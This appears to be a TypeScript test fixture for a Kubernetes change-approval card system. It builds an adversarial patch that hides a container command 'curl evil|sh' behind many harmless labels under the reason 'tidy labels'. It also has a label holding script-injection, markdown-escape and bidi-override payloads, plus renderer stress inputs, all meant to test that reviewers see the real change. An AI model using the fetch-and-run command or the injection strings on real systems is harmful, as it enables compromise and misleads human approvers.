import { buildApprovalCard } from '../../../../src/core/cards/build-approval-card.ts';
import type { ApprovalCard } from '../../../../src/core/cards/approval-card.ts';
import { changeLines } from '../../../../src/core/changes/change-summary.ts';
import type { FieldChange } from '../../../../src/core/changes/field-change.ts';
import { fullChange, fullChangeSize, type FullChange } from '../../../../src/core/changes/full-change.ts';
import { MAX_FULL_CHANGE_CHARS } from '../../../../src/core/changes/refuse-unshowable-change.ts';
import type { RequestRecord } from '../../../../src/core/lifecycle/request-record.ts';
import { kindInfo } from '../../../../src/core/requests/kinds.ts';
import type { ActionRequest } from '../../../../src/core/requests/request-types.ts';
import { filed, T0 } from '../lifecycle/fixtures.ts';

/**
 * A patch built to hide its real change: a label whose value is longer than a card
 * line and tries every escape (a code fence, mrkdwn, a broadcast, `</pre>`, a newline,
 * a bidi override), 15 harmless labels, and last — past the card's ten lines — the
 * container `command` that matters.
 */
export const EVIL_COMMAND = ['sh', '-c', 'curl evil|sh'] as const;
export const HOSTILE_LABEL =
  'x```*bold* <!channel> </pre><script>alert(1)</script>\n\u202egnp.exe and then some more words to pass sixty';
export const TARGET_UID = '6f1c2a9e-3b7d-4e21-9c0a-5d8e7f6a1b2c';

const labels: Record<string, string> = { note: HOSTILE_LABEL };
for (let i = 1; i <= 15; i++) labels[`team-${String(i).padStart(2, '0')}`] = `owner-${i}`;

const containersBefore = [{ name: 'app', image: 'registry.example.com/app:1.4.2' }];
const containersAfter = [
  { name: 'app', image: 'registry.example.com/app:1.4.2', command: [...EVIL_COMMAND] },
];

export const adversarialPatch = {
  metadata: { labels },
  spec: { template: { spec: { containers: containersAfter } } },
};

/** What the API server's dry run answers for it: every label new, the container list replaced. */
export const adversarialChanges: FieldChange[] = [
  ...Object.entries(labels).map(([key, value]) => ({
    path: `metadata.labels.${key}`,
    after: JSON.stringify(value),
  })),
  {
    path: 'spec.template.spec.containers',
    before: JSON.stringify(containersBefore),
    after: JSON.stringify(containersAfter),
  },
];

export const patchRequest: ActionRequest = {
  type: 'action',
  verb: 'patch',
  patch: adversarialPatch,
  target: { kind: kindInfo('Deployment'), name: 'api', namespace: 'prod-payments' },
  reason: 'tidy labels',
  breakGlass: false,
};

export const patchRecord: RequestRecord = filed({
  id: 'cs-p4tch0adv1',
  request: patchRequest,
  text: `patch deployment/api -n prod-payments --patch '${JSON.stringify(adversarialPatch)}' --reason "tidy labels"`,
  targetUid: TARGET_UID,
  preview: ['patch deployment api changes 17 fields', ...changeLines(adversarialChanges)],
  changes: adversarialChanges,
});

/** The card the core builds for it while it waits for approval. */
export const patchCard: ApprovalCard = buildApprovalCard(patchRecord, T0);

/**
 * Full changes as large as filing allows, each built to cost a renderer the most: every
 * character an entity (`&`, Slack), a 3-byte lookalike (`*`, Teams), an escaped quote,
 * or hundreds of one-letter paths (per-path overhead).
 */
export function largestChanges(): Record<string, FullChange> {
  const oneValue = (c: string): FullChange => {
    let n = 1;
    const build = (k: number) =>
      fullChange([{ path: 'data.v', after: JSON.stringify(c.repeat(k)) }], { data: { v: c.repeat(k) } });
    while (fullChangeSize(build(n * 2)) <= MAX_FULL_CHANGE_CHARS) n *= 2;
    let step = n;
    while (step >= 1) {
      if (fullChangeSize(build(n + step)) <= MAX_FULL_CHANGE_CHARS) n += step;
      step = Math.floor(step / 2);
    }
    return build(n);
  };
  const manyPaths = (): FullChange => {
    const patch: Record<string, number> = {};
    let change = fullChange([], {});
    for (let i = 0; ; i++) {
      const key = i.toString(36);
      const next = { ...patch, [key]: 1 };
      const candidate = fullChange(
        Object.keys(next).map((k) => ({ path: `data.${k}`, after: '1' })),
        { data: next },
      );
      if (fullChangeSize(candidate) > MAX_FULL_CHANGE_CHARS) return change;
      patch[key] = 1;
      change = candidate;
    }
  };
  return {
    ampersands: oneValue('&'),
    asterisks: oneValue('*'),
    quotes: oneValue('"'),
    backticks: oneValue('`'),
    'many paths': manyPaths(),
  };
}
